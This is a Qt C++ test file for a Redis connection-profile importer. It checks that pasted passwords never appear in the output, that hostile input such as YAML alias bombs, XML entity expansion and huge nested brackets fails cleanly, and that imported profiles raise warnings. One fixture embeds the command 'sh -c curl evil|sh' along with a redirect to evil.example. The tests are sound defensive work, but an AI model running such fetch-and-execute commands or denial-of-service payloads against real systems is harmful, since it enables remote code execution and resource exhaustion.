// What must not come of what people paste: secrets on the screen, programs that nobody agreed to,
// memory without end.
#include "imports.h"
#include "profiles/importing/draft.h"
#include <QTest>

using profiles::Candidate;
using profiles::Found;

class TestImportLimits : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void secrets_areShownNowhere_data()
    {
        QTest::addColumn<QByteArray>("text");
        for (const char *text :
             { "redis://u:hunter2@h:1/x", "redis://h\nredis://u:hunter2@h:99999",
               "redis-cli -h h -a hunter2 --what", "redis-cli -h h --pass=hunter2",
               "REDIS_HOST=h\nREDIS_PASSWORD=hunter2\nREDIS_SECRET_TOKEN=hunter2",
               "REDIS_HOST=h\nMY_DB_PASSWORD=hunter2 oops\nstrange password: hunter2",
               "new Redis({host:'h', password:'hunter2', foo: 'hunter2'})",
               "spring:\n  data:\n    redis:\n      host: h\n      password: hunter2\n      what: "
               "hunter2\n",
               "REDIS_HOST=h\nREDIS_SECRET_TOKEN=two hunter2 words",
               "new Redis({host:'h', password:'two hunter2', token: 'two hunter2'})",
               "{\"host\":\"h\",\"password\":\"two \\u0068unter2 hunter2\"}", "redis://u:hunter2@",
               "rediss-x://u:hunter2@h", "h:1 hunter2 password=hunter2",
               "REDIS_URL=redis://:hunter2@h:99999", "password: [hunter2\nhost: h" })
            QTest::newRow(text) << QByteArray(text);
    }
    void secrets_areShownNowhere()
    {
        QFETCH(QByteArray, text);
        const auto import = profiles::readImport(text);
        const QString secret = QStringLiteral("hunter2");
        if (!import) {
            QVERIFY(!import.error().text.contains(secret));
            QVERIFY(!import.error().detail.contains("hunter2"));
            return;
        }
        QList<Found> all = import->others;
        for (const Candidate &c : import->candidates) {
            all += c.found;
            QVERIFY(!c.profile.name.contains(secret) && !c.profile.host.contains(secret));
        }
        for (const Found &each : all)
            QVERIFY2(!(each.value + each.source + each.field).contains(secret),
                     qPrintable(each.field + u'|' + each.value + u'|' + each.source));
    }

    void hostileText_endsInASentence_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("zeros") << QByteArray(100'000, '\0');
        QTest::newRow("invalid UTF-8") << QByteArray(100'000, '\xff');
        QTest::newRow("brackets") << QByteArray(1'000'000, '[');
        QTest::newRow("braces") << QByteArray(1'000'000, '{');
        QTest::newRow("yaml brackets") << "a: " + QByteArray(1'000'000, '[');
        QTest::newRow("yaml dashes") << "a:\n" + QByteArray("- ").repeated(500'000);
        QTest::newRow("yaml questions") << "a:\n" + QByteArray("? ").repeated(200'000);
        QTest::newRow("nested maps") << QByteArray("a: {").repeated(100'000);
        QByteArray bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n";
        for (int i = 1; i < 12; ++i) {
            const QByteArray last = "*a" + QByteArray::number(i - 1);
            bomb += "a" + QByteArray::number(i) + ": &a" + QByteArray::number(i) + " [" + last;
            for (int j = 0; j < 9; ++j)
                bomb += "," + last;
            bomb += "]\n";
        }
        QTest::newRow("yaml aliases") << bomb;
        QTest::newRow("xml entities")
            << QByteArray("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">"
                          "<!ENTITY c \"&b;&b;&b;&b;\">]><x>&c;</x>");
        QTest::newRow("calls") << QByteArray("Redis(").repeated(200'000);
        QTest::newRow("quotes") << QByteArray("Redis('").repeated(200'000);
        QTest::newRow("zip") << QByteArray("PK\x03\x04 and more");
        QTest::newRow("endless line") << QByteArray(20'000'000, 'a');
        QTest::newRow("many lines") << QByteArray("x y\n").repeated(5'000'000);
        QTest::newRow("50 MB of brackets") << QByteArray(50'000'000, '[');
        QTest::newRow("variables that lead to themselves")
            << QByteArray("A=${B}\nB=${A}\nREDIS_PORT=${A}\nREDIS_PORT=${REDIS_PORT}\n");
    }
    void hostileText_endsInASentence()
    {
        QFETCH(QByteArray, text);
        const auto import = profiles::readImport(text);
        if (!import)
            QVERIFY(!import.error().text.isEmpty());
        else
            QVERIFY(import->candidates.size() <= 500);
    }

    void valuesThatMultiplyEachOther_endSoon()
    {
        QHash<QString, QString> none;
        profiles::importing::Context context({}, none);
        for (char name = 'A'; name < 'H'; ++name)
            context.define(QString(QLatin1Char(name)),
                           QStringLiteral("${%1}").arg(QLatin1Char(char(name + 1))).repeated(60));
        QStringList missing;
        const QString value = context.resolved(QStringLiteral("${A}"), missing);
        QVERIFY(value.size() <= 64 * 1024);
        // What is left stays as written, for this value and for the next.
        QCOMPARE(context.resolved(QStringLiteral("${J}"), missing), QStringLiteral("${J}"));
    }

    void namesThatGrowByNesting_areRefused()
    {
        const QByteArray key(180, 'k');
        const QByteArray many = QByteArray("1,").repeated(100'000) + "1";
        const QByteArray json =
            "{" + ('"' + key + "\":{").repeated(10) + "\"a\":[" + many + "]" + QByteArray(11, '}');
        const profiles::importing::Context context(QString::fromUtf8(json), {});
        QVERIFY(!profiles::importing::readLiteral(context, 0));
        const QByteArray longer =
            "{" + ('"' + key + "\":{").repeated(12) + "\"a\":1" + QByteArray(13, '}');
        const profiles::importing::Context deep(QString::fromUtf8(longer), {});
        QVERIFY(!profiles::importing::readLiteral(deep, 0));
    }

    void namesThatGrowByAliases_areRefusedOverAllDocuments()
    {
        const QByteArray key(180, 'k');
        const QByteArray document = "---\n" + ("{" + key + ": ").repeated(10) + "[&a ["
            + QByteArray("x,").repeated(50) + "x]" + QByteArray(", *a").repeated(40) + "]"
            + QByteArray(10, '}') + "\n";
        QVERIFY(profiles::importing::readYaml(QString::fromUtf8(document)).has_value());
        QVERIFY(!profiles::importing::readYaml(QString::fromUtf8(document.repeated(10))));
    }

    void tooMuch_isRefusedAtOnce()
    {
        const auto import = profiles::readImport(QByteArray(65 * 1024 * 1024, 'a'));
        QVERIFY(!import.has_value());
        QCOMPARE(import.error().kind, base::Error::Kind::TooLarge);
    }

    void ownExport_warnsOfWhatItBringsAlong()
    {
        const auto import = profiles::readImport(
            quotes("{'larder': 1, 'profiles': [{'name': 'prod', 'host': 'prod.example',"
                   "'authentication': 'password', 'passwordSource': 'command',"
                   "'passwordCommand': ['sh', '-c', 'curl \\'evil\\'|sh', 'a\\nb'],"
                   "'addressMap': {'prod.example:6379': 'evil.example:1'},"
                   "'allowDangerous': true, 'tls': {'enabled': true, 'verify': false,"
                   "'certificateFile': '/c.pem', 'keyFile': '/k.pem'},"
                   "'topology': 'sentinel', 'seeds': ['s.example:26379']}]}"));
        QVERIFY2(import, import ? "" : qPrintable(import.error().text));
        QCOMPARE(import->candidates.size(), 1);
        const QList<Found> &found = import->candidates.first().found;
        const auto warnings = foundOf(*import, Found::Kind::Warning);
        QCOMPARE(warnings.size(), 4);
        QCOMPARE(found.first().value,
                 QStringLiteral("This connection runs a program on this computer: \"sh\" \"-c\" "
                                "\"curl \\\"evil\\\"|sh\" \"a\\u000ab\""));
        QVERIFY(found[1].value.contains(QLatin1String("\"evil.example:1\"")));
        QStringList stated;
        for (const Found &each : found)
            stated += each.value;
        for (const char *file : { "/c.pem", "/k.pem", "s.example:26379" })
            QVERIFY2(stated.contains(QLatin1String(file)), file);
    }

    void unverifiedTls_isAWarningInAnyFormat()
    {
        const auto import = profiles::readImport("redis-cli --tls --insecure -h h.example");
        QVERIFY(import.has_value());
        QCOMPARE(import->candidates.size(), 1);
        QCOMPARE(foundOf(*import, Found::Kind::Warning).size(), 1);
    }
};

QTEST_GUILESS_MAIN(TestImportLimits)
#include "tst_importlimits.moc"
